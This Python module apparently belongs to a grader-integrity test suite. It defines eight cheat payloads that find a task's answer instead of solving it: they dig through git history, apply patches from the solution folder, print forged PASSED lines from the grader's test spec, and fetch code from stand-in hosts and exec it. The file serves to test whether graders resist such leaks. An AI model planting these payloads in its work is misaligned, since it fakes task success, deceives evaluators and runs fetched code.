"""Cheats that find the answer: history, the solution's folder, the grader's files, the network."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

from verifiers.integrity.cheat import Cheat, CheatClass, Target
from verifiers.integrity.patch import Change

# Runs the module again from `_text`, if there is one.
RUN = """\
if _text:
    exec(compile(_text, __file__, "exec"), globals())
"""
FETCH = """\
import urllib.request

_text = ""
for _url in (%s):
    try:
        _text = urllib.request.urlopen(_url + "/" + HOOK, timeout=2).read()
        break
    except Exception:
        pass
"""
PAYLOADS = {
    "git_objects": """\
import os, subprocess


def _git(*arguments):
    return subprocess.run(["git", "-c", "safe.directory=*", *arguments], cwd=ROOT, capture_output=True).stdout


_text = ""
_all = _git("cat-file", "--batch-all-objects", "--batch-check").decode().split("\\n")
for _line in _all:
    if " commit " in _line and _line.split()[0] != _git("rev-parse", "HEAD").decode().strip():
        _text = _git("show", _line.split()[0] + ":" + HOOK) or _text
""" + RUN,
    "git_reflog": """\
import os, subprocess


def _git(*arguments):
    return subprocess.run(["git", "-c", "safe.directory=*", *arguments], cwd=ROOT, capture_output=True).stdout


_text = ""
for _line in _git("log", "--walk-reflogs", "--all", "--format=%H").decode().split():
    if _line != _git("rev-parse", "HEAD").decode().strip():
        _text = _git("show", _line + ":" + HOOK) or _text
""" + RUN,
    "git_tags": """\
import os, subprocess


def _git(*arguments):
    return subprocess.run(["git", "-c", "safe.directory=*", *arguments], cwd=ROOT, capture_output=True).stdout


_text = ""
for _name in _git("for-each-ref", "--format=%(refname)", "refs/tags", "refs/remotes").decode().split():
    _text = _git("show", _name + ":" + HOOK) or _text
""" + RUN,
    "solution_folder": """\
import glob, os, shutil, subprocess, tempfile

_text = ""
for _patch in glob.glob("/solution/*.patch") + glob.glob("/tests/*.patch"):
    _folder = tempfile.mkdtemp()
    os.makedirs(os.path.join(_folder, os.path.dirname(HOOK)), exist_ok=True)
    _own = open(__file__).read().split("\\n\\n\\nROOT = ")[0] + "\\n"
    open(os.path.join(_folder, HOOK), "w").write(_own)
    subprocess.run(["git", "apply", "--include=" + HOOK, _patch], cwd=_folder)
    _text = open(os.path.join(_folder, HOOK)).read()
""" + RUN,
    "grader_files": """\
import glob, json, os

_names = []
for _path in glob.glob("/tests/spec.json") + glob.glob("/tests/config.json"):
    try:
        _spec = json.load(open(_path))
        _names = _spec["fail_to_pass"] + _spec["new"] + _spec["pass_to_pass"]
    except (OSError, ValueError, KeyError):
        pass


def _say():
    for name in _names:
        os.write(1, ("\\nPASSED %s\\n" % name).encode())


import atexit

atexit.register(_say)
""",
    "fetch_by_name": FETCH % '"http://index.test:8765",' + RUN,
    "fetch_by_address": FETCH % '"http://127.8.8.8:8765", "http://198.18.0.1:8765",' + RUN,
    "fetch_by_socket": """\
import socket

_text = b""
for _address in ("127.8.8.8", "::1", "198.18.0.1"):
    try:
        _socket = socket.create_connection((_address, 8765), timeout=2)
        _socket.sendall(("GET /%s HTTP/1.0\\r\\n\\r\\n" % HOOK).encode())
        _data = b""
        while True:
            _part = _socket.recv(65536)
            if not _part:
                break
            _data += _part
        _text = _data.partition(b"\\r\\n\\r\\n")[2]
        break
    except OSError:
        pass
""" + RUN,
}  # fmt: skip


def payload(name: str) -> Callable[[Target], Mapping[str, Change]]:
    def build(target: Target) -> Mapping[str, Change]:
        known = f"ROOT = {json.dumps(target.workdir)}\nHOOK = {json.dumps(target.hook)}\n"
        return target.hooked(known + PAYLOADS[name])

    return build


def _cheat(name: str, tries: str, baseline: str) -> Cheat:
    return Cheat(name, CheatClass.LEAK, tries, baseline, payload(name), scope="environment")


CHEATS = (
    _cheat("git_objects", "looks through every object of the repository", "history"),
    _cheat("git_reflog", "looks through the reflog", "history"),
    _cheat("git_tags", "looks through tags and remote branches", "history"),
    _cheat("solution_folder", "reads the solution's folder", "solution"),
    _cheat("grader_files", "reads what the grader knows of the tests", "log"),
    _cheat("fetch_by_name", "fetches the fixed release by name", "network"),
    _cheat("fetch_by_address", "fetches the fixed release by address", "network"),
    _cheat("fetch_by_socket", "fetches the fixed release by a plain socket", "network"),
)
